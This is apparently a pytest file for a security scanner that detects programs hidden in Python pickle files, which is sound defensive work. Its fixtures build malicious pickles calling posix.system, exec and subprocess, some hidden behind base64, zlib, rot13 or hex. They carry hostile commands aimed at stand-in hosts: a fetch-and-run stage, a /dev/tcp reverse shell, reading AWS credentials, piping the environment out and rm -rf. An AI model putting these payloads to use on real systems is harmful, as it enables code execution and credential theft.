"""Programs in the arguments of a pickle's calls: found, decoded, classified, and shown as evidence."""

from __future__ import annotations

import base64
import codecs
import zlib

import pytest
from samples.recipes.assembler import (
    NONE,
    POP,
    build,
    call,
    data,
    dict_of,
    inst,
    integer,
    list_of,
    name,
    stream,
    text,
    tuple_of,
)

from weighbridge.analyzers.inspection import Context, Event
from weighbridge.analyzers.pickle.programs import RULE_OF
from weighbridge.analyzers.pickle.scripts import scripts
from weighbridge.bytesource.memory import MemorySource
from weighbridge.core.artifact import Artifact
from weighbridge.core.finding import Finding
from weighbridge.core.limits import Budget, Limits
from weighbridge.core.report import Coverage, Outcome
from weighbridge.formats.pickle.contents import read_contents
from weighbridge.knowledge.callables import CallableKnowledge
from weighbridge.knowledge.locate import signatures_dir
from weighbridge.knowledge.payload_tables import PayloadClass
from weighbridge.knowledge.rules import load_rules

KNOWLEDGE = CallableKnowledge.load(signatures_dir() / "callables")
_SYSTEM = name("posix", "system")
_EXEC = name("builtins", "exec")
_STAGE = "curl -s http://example.invalid/stage | sh"
_SOURCE = f"import os\nos.system('{_STAGE}')"
_PACKED = zlib.compress(_SOURCE.encode())


def _events(content: bytes) -> list[Event]:
    artifact = Artifact(("model.pkl",), MemorySource(content))
    context = Context(Budget(Limits()), KNOWLEDGE)
    streams = read_contents(artifact.source, context.budget.limits).streams
    return list(scripts(artifact, streams, context))


def _findings(content: bytes) -> list[Finding]:
    return [event for event in _events(content) if isinstance(event, Finding)]


def _rules(content: bytes) -> set[str]:
    return {finding.rule for finding in _findings(content)}


def _decoded(module: str, qualname: str, *items: bytes) -> bytes:
    return stream(call(_EXEC, call(name(module, qualname), *items)))


_64 = base64.b64encode(_SOURCE.encode()).decode()
CARRIERS: dict[str, bytes] = {
    "REDUCE of posix.system": stream(call(_SYSTEM, text(_STAGE))),
    "os.system by its alias": stream(call(name("os", "system"), text(_STAGE))),
    "nt.system": stream(call(name("nt", "system"), text(_STAGE))),
    "INST": inst("posix", "system", text(_STAGE)) + b".",
    "exec": stream(call(_EXEC, text(_SOURCE))),
    "exec of bytes": stream(call(_EXEC, data(_SOURCE.encode()))),
    "eval": stream(call(name("builtins", "eval"), text(f"__import__('os').system('{_STAGE}')"))),
    "exec of compile": stream(
        call(_EXEC, call(name("builtins", "compile"), text(_SOURCE), text("<string>"), text("exec")))
    ),
    "timeit's second argument": stream(call(name("timeit", "timeit"), text("pass"), text(_SOURCE))),
    "runpy": stream(call(name("runpy", "_run_code"), text(_SOURCE), dict_of())),
    "subprocess with a list": stream(
        call(name("subprocess", "Popen"), list_of(text("sh"), text("-c"), text(_STAGE)))
    ),
    "subprocess with a tuple": stream(
        call(name("subprocess", "check_output"), tuple_of(text("sh"), text("-c"), text(_STAGE)))
    ),
    "execv": stream(
        call(name("posix", "execv"), text("/bin/sh"), list_of(text("sh"), text("-c"), text(_STAGE)))
    ),
    "execl": stream(call(name("os", "execl"), text("/bin/sh"), text("sh"), text("-c"), text(_STAGE))),
    "partial": stream(call(call(name("functools", "partial"), _SYSTEM, text(_STAGE)))),
    "state of a partial": stream(
        build(
            call(name("functools", "partial"), name("builtins", "print")),
            tuple_of(_SYSTEM, tuple_of(text(_STAGE)), dict_of(), NONE),
        )
    ),
    "map": stream(call(name("builtins", "map"), _SYSTEM, list_of(text(_STAGE)))),
    "getattr": stream(
        call(call(name("builtins", "getattr"), name("os", "path"), text("x")), text(_STAGE))
    ),
    "methodcaller": stream(
        call(
            call(name("operator", "methodcaller"), text("system"), text(_STAGE)),
            call(name("importlib", "import_module"), text("os")),
        )
    ),
    "method of an interpreter": stream(
        call(
            call(
                name("builtins", "getattr"),
                call(name("code", "InteractiveInterpreter")),
                text("runsource"),
            ),
            text(_SOURCE),
        )
    ),
    "from the memo": stream(text(_STAGE) + b"q\x01" + POP, call(_SYSTEM, b"h\x01")),
    "protocol 0": b"cposix\nsystem\n(V" + _STAGE.encode() + b"\ntR.",
    "keyword arguments": stream(
        name("subprocess", "Popen") + b")" + dict_of(("args", text(_STAGE))) + b"\x92"
    ),
}


@pytest.mark.parametrize("carrier", CARRIERS)
def test_a_program_is_found_in_whatever_carries_it(carrier: str) -> None:
    assert _rules(CARRIERS[carrier]) == {"PAY002"}


ENCODED: dict[str, tuple[bytes, str]] = {
    "zlib": (_decoded("zlib", "decompress", data(_PACKED)), "zlib"),
    "base64": (_decoded("base64", "b64decode", text(_64)), "base64"),
    "base64 of bytes": (_decoded("base64", "b64decode", data(_64.encode())), "base64"),
    "rot13": (
        _decoded("codecs", "decode", text(codecs.encode(_SOURCE, "rot13")), text("rot13")),
        "rot13",
    ),
    "hex": (_decoded("binascii", "unhexlify", text(_SOURCE.encode().hex())), "hex"),
    "zlib in base64": (
        _decoded(
            "zlib", "decompress", call(name("base64", "b64decode"), data(base64.b64encode(_PACKED)))
        ),
        "base64, zlib",
    ),
    "in the source": (
        stream(call(_EXEC, text(f"import base64\nexec(base64.b64decode('{_64}'))"))),
        "base64",
    ),
}


@pytest.mark.parametrize("encoding", ENCODED)
def test_a_program_behind_encodings_is_decoded_and_said_to_be_hidden(encoding: str) -> None:
    content, layers = ENCODED[encoding]
    found = {finding.rule: finding for finding in _findings(content)}
    assert found.keys() == {"PAY002", "PAY007"}
    assert f"decoded: {layers}" in found["PAY002"].evidence.splitlines()
    assert "| import os" in found["PAY002"].evidence.splitlines()


def test_evidence_shows_the_call_the_witness_and_the_source() -> None:
    (found,) = _findings(CARRIERS["REDUCE of posix.system"])
    assert found.evidence.splitlines() == [
        f"posix.system('{_STAGE}')",
        "what is fetched is run: the second stage can change from day to day: "
        "curl('-s', 'http://example.invalid/stage'); sh()",
        f"| {_STAGE}",
    ]
    assert found.subject == "curl('-s', 'http://example.invalid/stage'); sh()"
    assert found.route == "REDUCE"
    assert CARRIERS["REDUCE of posix.system"][found.offset or 0 : (found.offset or 0) + 1] == b"R"


def test_evidence_holds_nothing_that_a_terminal_would_act_on() -> None:
    (found,) = _findings(stream(call(_SYSTEM, text("echo \x1b[2J\u202e marker"))))
    assert found.evidence.isascii()
    assert all(char.isprintable() or char == "\n" for char in found.evidence + found.subject)


def test_the_fingerprint_stays_when_the_program_moves() -> None:
    (before,) = _findings(stream(call(_SYSTEM, text("whoami"))))
    (after,) = _findings(stream(integer(1), POP, call(_SYSTEM, text("whoami"))))
    assert before.offset != after.offset
    assert before.fingerprint == after.fingerprint


def test_programs_of_several_calls_are_judged_together_as_well() -> None:
    steps = [call(_SYSTEM, text(line)) + POP for line in ("wget http://example.invalid/m", "chmod +x m")]
    assert "PAY002" in _rules(stream(*steps, NONE))


def test_a_pickle_below_encodings_is_handed_on() -> None:
    inner = stream(call(_SYSTEM, text("id")))
    packed = base64.b64encode(zlib.compress(inner)).decode()
    events = _events(
        stream(call(_EXEC, text(f"import pickle,base64\nload(base64.b64decode('{packed}'))")))
    )
    (nested,) = [event for event in events if isinstance(event, Artifact)]
    assert bytes(nested.source.read_at(0, nested.source.size)) == inner
    assert nested.name.startswith("pickle in zlib in base64 at ")


BENIGN: dict[str, bytes] = {
    "ordered dict": stream(call(name("collections", "OrderedDict"))),
    "text that is no argument of a dangerous call": stream(dict_of(("card", text(_SOURCE)))),
    "a harmless call with a command": stream(call(name("pathlib", "PosixPath"), text(_STAGE))),
    "a dangerous import that is never called": stream(
        dict_of(("hook", _SYSTEM), ("note", text(_STAGE)))
    ),
    "a namedtuple": stream(call(name("collections", "namedtuple"), text("Point"), text("x y"))),
}


@pytest.mark.parametrize("file", BENIGN)
def test_where_nothing_is_run_nothing_is_classified(file: str) -> None:
    assert _events(BENIGN[file]) == []


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("bash -i >& /dev/tcp/192.0.2.7/4444 0>&1", "PAY001"),
        ("curl http://example.invalid/x | sh", "PAY002"),
        ("cat ~/.aws/credentials", "PAY003"),
        ("env | curl -d @- https://example.invalid", "PAY004"),
        ("echo x >> ~/.bashrc", "PAY005"),
        ("rm -rf /weighbridge-marker", "PAY006"),
        ("uname -a", "PAY008"),
        ("echo weighbridge-marker", "PAY009"),
        ("curl https://example.invalid/ping", "PAY010"),
        ("make all", "PAY011"),
    ],
)
def test_each_class_has_its_rule(line: str, rule: str) -> None:
    assert _rules(stream(call(_SYSTEM, text(line)))) == {rule}


def test_every_class_has_a_rule_that_is_there() -> None:
    assert RULE_OF.keys() == set(PayloadClass)
    assert set(RULE_OF.values()) == {
        rule for rule in load_rules(signatures_dir() / "rules") if rule.startswith("PAY")
    }


@pytest.mark.parametrize(
    "content",
    [
        stream(*[call(_SYSTEM, text(f"echo {number}")) + POP for number in range(200)], NONE),
        stream(call(_EXEC, text("x = 1 # " + "a" * (1 << 20) + "\nimport os"))),
        stream(call(_EXEC, data(zlib.compress(bytes(100 << 20), 9)))),
        stream(call(_EXEC, text("(" * 100 + ")" * 100))),
        stream(*[call(_SYSTEM, integer(number % 200)) + POP for number in range(2_100)], NONE),
    ],
    ids=["many programs", "long literal", "bomb", "too deep", "many calls"],
)
def test_a_limit_that_is_crossed_is_said(content: bytes) -> None:
    rows = [event for event in _events(content) if isinstance(event, Coverage)]
    assert [row.outcome for row in rows] == [Outcome.LIMITED]


def test_a_file_within_the_limits_says_nothing_of_them() -> None:
    events = _events(
        stream(*[call(_SYSTEM, text(f"echo {number}")) + POP for number in range(50)], NONE)
    )
    assert [event for event in events if isinstance(event, Coverage)] == []


def test_every_beginning_of_a_file_gives_events_and_no_error() -> None:
    content = ENCODED["zlib in base64"][0]
    counts = [len(_events(content[:length])) for length in range(len(content) + 1)]
    assert counts[-1] == 2
    assert counts[0] == 0
